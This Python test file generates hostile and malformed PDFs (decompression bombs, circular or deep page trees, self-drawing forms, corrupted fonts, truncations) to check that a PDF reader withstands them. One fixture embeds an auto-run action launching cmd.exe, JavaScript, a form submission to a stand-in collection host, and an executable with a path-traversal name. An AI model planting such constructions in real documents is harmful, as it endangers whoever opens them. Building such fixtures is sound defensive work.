"""PDFs that mean harm or are broken: `python -m tests.documents.pdf.hostile FOLDER` writes them.

None may take the reader down, or longer or more than its limits: `watch.py` reads a folder of them
and says.
"""

from __future__ import annotations

import argparse
import random
import sys
import zlib
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Final

import pymupdf

from tests.documents.measure import load_records, specimen_of
from tests.documents.pdf.manners import MANNERS
from tests.documents.pdf.material import opened, saved
from tests.documents.pdf.objects import Objects
from tests.documents.pdf.typeset import typeset

TRUNCATIONS: Final = (20, 300, 0.1, 0.3, 0.5, 0.7, 0.9, 0.97, 0.995, -30, -6)  # bytes, or shares
BOMB: Final = 400_000_000  # bytes that a stream unpacks to


def form() -> bytes:
    """A filled form as a PDF."""
    record = load_records(["a01-automotive-twin"])["a01-automotive-twin"]
    rng = random.Random("hostile")
    return typeset(specimen_of("a01", record, "plain", rng), MANNERS["word"], rng).data


def single(
    content: bytes = b"",
    resources: str = "",
    box: str = "[0 0 595 842]",
    more: str = "",
    objects: Objects | None = None,
) -> bytes:
    """A file of one page; `more` are entries of its catalogue, `objects` what it refers to."""
    objects = objects or Objects()
    root, tree, page = objects.reserve(), objects.reserve(), objects.reserve()
    stream = objects.stream(content)
    objects.put(root, f"<< /Type /Catalog /Pages {tree} 0 R {more} >>")
    objects.put(tree, f"<< /Type /Pages /Kids [{page} 0 R] /Count 1 >>")
    objects.put(
        page,
        f"<< /Type /Page /Parent {tree} 0 R /MediaBox {box} /Contents {stream} 0 R"
        f" /Resources << {resources} >> >>",
    )
    return objects.file(root, objects.add("<< /Producer (x) >>"))


def truncated() -> Iterator[tuple[str, bytes]]:
    data = form()
    for cut in TRUNCATIONS:
        at = int(len(data) * cut) if isinstance(cut, float) else cut
        yield f"truncated-{cut}", data[:at]


def many_pages() -> bytes:
    objects = Objects()
    root, tree = objects.reserve(), objects.reserve()
    stream = objects.stream(b"0 0 m 10 10 l S")
    pages = [
        objects.add(
            f"<< /Type /Page /Parent {tree} 0 R /MediaBox [0 0 595 842] /Contents {stream} 0 R >>"
        )
        for _ in range(10_000)
    ]
    objects.put(root, f"<< /Type /Catalog /Pages {tree} 0 R >>")
    kids = " ".join(f"{number} 0 R" for number in pages)
    objects.put(tree, f"<< /Type /Pages /Kids [{kids}] /Count {len(pages)} >>")
    return objects.file(root, objects.add("<< >>"))


def form_among_pages() -> bytes:
    """A form, and two thousand pages of text behind it."""
    document = opened(form())
    for _ in range(2000):
        document.new_page().insert_text((72, 72), "0123456789 " * 6)
    return saved(document, garbage=0)


def page_tree(kind: str) -> bytes:
    """A page tree that is empty, comes back to itself, or is a thousand levels deep."""
    objects = Objects()
    root, tree = objects.reserve(), objects.reserve()
    objects.put(root, f"<< /Type /Catalog /Pages {tree} 0 R >>")
    if kind == "empty":
        objects.put(tree, "<< /Type /Pages /Kids [] /Count 0 >>")
    elif kind == "circular":
        objects.put(tree, f"<< /Type /Pages /Kids [{tree} 0 R] /Count 3 /Parent {tree} 0 R >>")
    else:
        above = tree
        for _ in range(5000):
            below = objects.reserve()
            objects.put(above, f"<< /Type /Pages /Kids [{below} 0 R] /Count 1 >>")
            above = below
        objects.put(above, "<< /Type /Page /MediaBox [0 0 595 842] >>")
    return objects.file(root, objects.add("<< >>"))


def no_root() -> bytes:
    return form().replace(b"/Root 1 0 R", b"/Root 9999 0 R")


def xref_loop() -> bytes:
    """A cross-reference section whose predecessor is itself."""
    data = form()
    at = int(data.rpartition(b"startxref\n")[2].split()[0])
    return data.replace(b"trailer\n<< ", b"trailer\n<< /Prev %d " % at)


def xref_wrong() -> bytes:
    """Every offset of the cross-reference table is off."""
    head, mark, table = form().rpartition(b"xref\n0 ")
    return head + mark + table.replace(b"0000", b"0011")


def reference_loop() -> bytes:
    """The page's content is an object that refers to itself; its length too."""
    data = single(b"0 0 m S")
    return data.replace(b"/Contents 4 0 R", b"/Contents 3 0 R", 1)


def nested_arrays() -> bytes:
    return single(more="/X " + "[" * 100_000 + "]" * 100_000)


def content_bomb() -> bytes:
    """A content stream of kilobytes that unpacks to hundreds of megabytes."""
    packer = zlib.compressobj(9)
    block = b"q Q " * 250_000
    packed = b"".join(packer.compress(block) for _ in range(BOMB // len(block))) + packer.flush()
    objects = Objects()
    root, tree, page = objects.reserve(), objects.reserve(), objects.reserve()
    twice = zlib.compress(packed, 9)
    stream = objects.add(
        f"<< /Length {len(twice)} /Filter [/FlateDecode /FlateDecode] >>\nstream\n".encode()
        + twice
        + b"\nendstream"
    )
    objects.put(root, f"<< /Type /Catalog /Pages {tree} 0 R >>")
    objects.put(tree, f"<< /Type /Pages /Kids [{page} 0 R] /Count 1 >>")
    objects.put(
        page,
        f"<< /Type /Page /Parent {tree} 0 R /MediaBox [0 0 595 842] /Contents {stream} 0 R >>",
    )
    return objects.file(root, objects.add("<< >>"))


def form_recursion() -> bytes:
    """A form XObject that draws itself; and ten that each draw the next ten times."""
    objects = Objects()
    root, tree, page = objects.reserve(), objects.reserve(), objects.reserve()
    loop = objects.reserve()
    objects.put(
        loop,
        f"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /A {loop} 0 R"
        " >> >> /Length 5 >>\nstream\n/A Do\nendstream",
    )
    below = objects.stream(b"0 0 m 9 9 l S", "/Type /XObject /Subtype /Form /BBox [0 0 9 9]")
    for _ in range(9):
        below = objects.stream(
            b"/A Do " * 10,
            "/Type /XObject /Subtype /Form /BBox [0 0 9 9]"
            f" /Resources << /XObject << /A {below} 0 R >> >>",
        )
    stream = objects.stream(b"/L Do /B Do")
    objects.put(root, f"<< /Type /Catalog /Pages {tree} 0 R >>")
    objects.put(tree, f"<< /Type /Pages /Kids [{page} 0 R] /Count 1 >>")
    objects.put(
        page,
        f"<< /Type /Page /Parent {tree} 0 R /MediaBox [0 0 595 842] /Contents {stream} 0 R"
        f" /Resources << /XObject << /L {loop} 0 R /B {below} 0 R >> >> >>",
    )
    return objects.file(root, objects.add("<< >>"))


def many_lines() -> bytes:
    """A million strokes, each a line of a table that has no end."""
    lines = [f"{n % 590} {n % 830} m {(n * 7) % 590} {n % 830} l S" for n in range(1_000_000)]
    return single("\n".join(lines).encode())


def many_rectangles() -> bytes:
    """A grid of 700 by 700 cells."""
    cells = [f"{x * 0.8:.1f} {y * 1.1:.1f} 0.8 1.1 re S" for x in range(700) for y in range(700)]
    return single("\n".join(cells).encode())


def many_characters() -> bytes:
    """Half a million characters on one page."""
    text = b"BT /F 5 Tf " + b"1 0 0 1 20 20 Tm (" + b"Aa1" * 60 + b") Tj " * 1 + b"ET\n"
    return single(
        text * 2800, "/Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>"
    )


def huge_picture() -> bytes:
    """A picture that says it has 500 megapixels, its data a few kilobytes."""
    objects = Objects()
    root, tree, page = objects.reserve(), objects.reserve(), objects.reserve()
    packer = zlib.compressobj(9)
    row = bytes(25_000)
    data = b"".join(packer.compress(row) for _ in range(20_000)) + packer.flush()
    picture = objects.add(
        "<< /Type /XObject /Subtype /Image /Width 25000 /Height 20000 /ColorSpace /DeviceGray"
        f" /BitsPerComponent 8 /Filter /FlateDecode /Length {len(data)} >>\nstream\n".encode()
        + data
        + b"\nendstream"
    )
    stream = objects.stream(b"q 595 0 0 842 0 0 cm /I Do Q")
    objects.put(root, f"<< /Type /Catalog /Pages {tree} 0 R >>")
    objects.put(tree, f"<< /Type /Pages /Kids [{page} 0 R] /Count 1 >>")
    objects.put(
        page,
        f"<< /Type /Page /Parent {tree} 0 R /MediaBox [0 0 595 842] /Contents {stream} 0 R"
        f" /Resources << /XObject << /I {picture} 0 R >> >> >>",
    )
    return objects.file(root, objects.add("<< >>"))


def acting() -> bytes:
    """The form, with scripts, a program to start, a link to send the form to."""
    document = opened(form())
    document.xref_set_key(
        document.pdf_catalog(),
        "OpenAction",
        "<< /S /Launch /F (cmd.exe) /Next << /S /JavaScript /JS (app.launchURL\\('x'\\);) >> >>",
    )
    document.xref_set_key(
        document[0].xref, "AA", "<< /O << /S /SubmitForm /F (http://collect.example/) >> >>"
    )
    document.embfile_add("x.exe", b"MZ", filename="../../x.exe")
    return saved(document)


def broken_map() -> bytes:
    """The form, its fonts' maps to characters torn."""
    document = opened(form())
    for number in range(1, document.xref_length()):
        if b"begincmap" in (document.xref_stream(number) or b""):
            document.update_stream(number, b"begincmap 5 beginbfchar <0001> <" + b"ff" * 500)
    return saved(document)


def broken_fonts() -> bytes:
    """The form, its fonts' files filled with noise."""
    document, rng = opened(form()), random.Random(1)
    for number in range(1, document.xref_length()):
        if document.xref_get_key(number, "Length1")[0] == "int":
            document.update_stream(number, rng.randbytes(4000))
    return saved(document)


def flipped() -> Iterator[tuple[str, bytes]]:
    """The form with bytes changed at random."""
    for number in range(12):
        rng = random.Random(number)
        data = bytearray(form())
        for _ in range(10 ** (number % 4)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        yield f"flipped-{number}", bytes(data)


FILES: Final[dict[str, Callable[[], bytes]]] = {
    "sound": form,
    "many-pages": many_pages,
    "form-among-pages": form_among_pages,
    "no-pages": lambda: page_tree("empty"),
    "circular-pages": lambda: page_tree("circular"),
    "deep-pages": lambda: page_tree("deep"),
    "no-root": no_root,
    "xref-loop": xref_loop,
    "xref-wrong": xref_wrong,
    "reference-loop": reference_loop,
    "nested-arrays": nested_arrays,
    "content-bomb": content_bomb,
    "form-recursion": form_recursion,
    "many-lines": many_lines,
    "many-rectangles": many_rectangles,
    "many-characters": many_characters,
    "huge-box": lambda: single(b"0 0 m 9 9 l S", box="[0 0 1e9 1e9]"),
    "inverted-box": lambda: single(b"0 0 m 9 9 l S", box="[595 842 0 0]"),
    "empty-box": lambda: single(b"0 0 m 9 9 l S", box="[0 0 0 0]"),
    "no-number-box": lambda: single(b"0 0 m 9 9 l S", box="[/A (b) null 1e400]"),
    "huge-picture": huge_picture,
    "acting": acting,
    "broken-map": broken_map,
    "broken-fonts": broken_fonts,
    "encrypted": lambda: saved(
        opened(form()), encryption=pymupdf.PDF_ENCRYPT_AES_256, owner_pw="a", user_pw="b"
    ),
    "only-head": lambda: b"%PDF-1.7\n",
    "no-pdf": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 400,
}


def files() -> Iterator[tuple[str, bytes]]:
    """Every file with its name."""
    for name, make in FILES.items():
        yield name, make()
    yield from truncated()
    yield from flipped()


def main(arguments: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="tests.documents.pdf.hostile", description=__doc__)
    parser.add_argument("folder", type=Path)
    chosen = parser.parse_args(arguments)
    chosen.folder.mkdir(parents=True, exist_ok=True)
    for name, data in files():
        (chosen.folder / f"{name}.pdf").write_bytes(data)
    return 0


if __name__ == "__main__":
    sys.exit(main())
